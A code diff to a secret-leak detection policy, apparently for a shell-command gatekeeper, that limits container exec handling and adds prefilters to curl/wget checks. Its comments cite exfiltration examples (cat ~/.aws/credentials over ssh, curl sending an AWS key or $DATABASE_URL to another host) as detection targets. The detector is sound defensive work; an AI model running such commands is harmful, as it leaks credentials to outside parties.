@@ -14,7 +14,7 @@ from collections.abc import Callable, Sequence
 from dataclasses import replace
 from itertools import pairwise
 
-from sluice.policies._leaks import leaked_secret
+from sluice.policies._leaks import leaked_secret, may_hold_secret
 from sluice.policies._runners import ssh_command
 from sluice.policies._shell import Command, basename, parse, with_next
 from sluice.policies._targets import is_credential, on_remote
@@ -492,7 +492,7 @@ def _secret_read_by(command: Command) -> str | None:
     if printed := printed_credential(words):
         return printed
     name = basename(words[0]) if words else ""
-    if inner := _exec_command(name, words[1:]):  # kubectl exec pod -- printenv: the pod's
+    if name in _EXECS and (inner := _exec_command(name, words[1:])):  # kubectl exec … printenv
         return _secret_read_by(replace(command, words=tuple(inner), inputs=()))
     if name == "ssh" and (remote := ssh_command(words[1:])):
         # ssh host 'cat ~/.aws/credentials' | …: the remote file comes out
@@ -618,6 +618,7 @@ def _exec_command(name: str, args: Sequence[str]) -> list[str]:
     return []
 
 
+_EXECS = frozenset({"kubectl", "oc", "docker", "podman"})
 _EXEC_VALUES = frozenset({"-e", "--env", "-u", "--user", "-w", "--workdir", "--env-file"})
 
 
@@ -649,6 +650,8 @@ def _found_and_sent(args: Sequence[str], is_credential: Callable[[str], bool]) -
 def _written_secret(args: Sequence[str], wget: bool = False) -> str | None:
     """A secret curl's (or ``wget``'s) URL or body holds literally, sent to another service
     than its own (``curl "https://t.example/p?ak=AKIA…"``)."""
+    if not may_hold_secret(" ".join(args)):
+        return None
     urls = [a for a in args if "://" in a and not a.startswith("-")]
     if wget:
         body = "\n".join(a.partition("=")[2] for a in args if a.startswith(_WGET_BODIES))
@@ -662,6 +665,8 @@ def _written_secret(args: Sequence[str], wget: bool = False) -> str | None:
 def _secret_body(args: Sequence[str]) -> str | None:
     """The secret variable curl sends as a whole body (``-d "$DATABASE_URL"``); one field of
     a form (``-d client_secret=$CLIENT_SECRET``) is a token request, not this."""
+    if not any(a[:1] == "$" for a in args):
+        return None
     for option, given in _curl_options(args):
         found = _ONE_VARIABLE.fullmatch(given) if option in _CURL_DATA else None
         if found and _SECRET_VARIABLE.fullmatch(found[1]):
